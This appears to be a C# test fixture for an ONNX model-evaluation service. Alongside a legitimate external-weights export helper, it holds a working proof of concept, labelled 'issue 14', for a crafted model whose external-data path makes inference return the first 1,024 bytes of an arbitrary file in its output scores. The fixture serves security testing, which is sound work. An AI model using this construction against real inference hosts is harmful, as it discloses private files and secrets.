using Google.Protobuf;
using Onnx;
using SENet.Evaluation.Models;

namespace SENet.Evaluation.Tests.Models;

/// <summary>Models whose weights live in external files: a legitimate export, and crafted ones that point elsewhere.</summary>
public static class ExternalModels
{
    /// <summary>Moves every initializer's bytes into one file <paramref name="location"/> (offset and length per tensor), as torch.onnx does for large models.</summary>
    public static (byte[] Model, byte[] Weights) WithExternalWeights(byte[] onnx, string location)
    {
        var model = ModelInspector.Load(onnx);
        using var weights = new MemoryStream();
        foreach (var tensor in model.Graph.Initializer)
        {
            var offset = weights.Length;
            tensor.RawData.WriteTo(weights);
            tensor.ExternalData.Add(new StringStringEntryProto { Key = "location", Value = location });
            tensor.ExternalData.Add(new StringStringEntryProto { Key = "offset", Value = offset.ToString(System.Globalization.CultureInfo.InvariantCulture) });
            tensor.ExternalData.Add(new StringStringEntryProto { Key = "length", Value = tensor.RawData.Length.ToString(System.Globalization.CultureInfo.InvariantCulture) });
            tensor.DataLocation = TensorProto.Types.DataLocation.External;
            tensor.RawData = ByteString.Empty;
        }

        return (model.ToByteArray(), weights.ToArray());
    }

    /// <summary>
    /// The proof of concept of issue 14: a "classifier" [N,3,8,8] → [N,1024] whose uint8 initializer 'leak' is read from
    /// <paramref name="location"/> and added to every score, so the scores spell out the file's first 1,024 bytes.
    /// </summary>
    public static byte[] Leaking(string location)
    {
        var graph = new GraphProto { Name = "leak" };
        graph.Input.Add(Value("pixels", 3, 8, 8));
        graph.Output.Add(Value("scores", 1024));
        var leak = new TensorProto { Name = "leak", DataType = (int)TensorProto.Types.DataType.Uint8, DataLocation = TensorProto.Types.DataLocation.External };
        leak.Dims.Add(1024);
        leak.ExternalData.Add(new StringStringEntryProto { Key = "location", Value = location });
        leak.ExternalData.Add(new StringStringEntryProto { Key = "length", Value = "1024" });
        graph.Initializer.Add(leak);
        var weight = new TensorProto { Name = "w", DataType = (int)TensorProto.Types.DataType.Float, RawData = ByteString.CopyFrom(new byte[192 * 1024 * 4]) };
        weight.Dims.AddRange([192, 1024]);
        graph.Initializer.Add(weight);
        graph.Node.Add(new NodeProto { OpType = "Flatten", Input = { "pixels" }, Output = { "flat" } });
        graph.Node.Add(new NodeProto { OpType = "MatMul", Input = { "flat", "w" }, Output = { "zero" } });
        graph.Node.Add(new NodeProto { OpType = "Cast", Input = { "leak" }, Output = { "leakf" }, Attribute = { new AttributeProto { Name = "to", Type = AttributeProto.Types.AttributeType.Int, I = 1 } } });
        graph.Node.Add(new NodeProto { OpType = "Add", Input = { "zero", "leakf" }, Output = { "scores" } });
        var model = new ModelProto { IrVersion = 8, Graph = graph };
        model.OpsetImport.Add(new OperatorSetIdProto { Version = 17 });
        return model.ToByteArray();
    }

    private static ValueInfoProto Value(string name, params int[] dims)
    {
        var shape = new TensorShapeProto();
        shape.Dim.Add(new TensorShapeProto.Types.Dimension { DimParam = "N" });
        shape.Dim.AddRange(dims.Select(d => new TensorShapeProto.Types.Dimension { DimValue = d }));
        return new ValueInfoProto { Name = name, Type = new TypeProto { TensorType = new TypeProto.Types.Tensor { ElemType = 1, Shape = shape } } };
    }
}
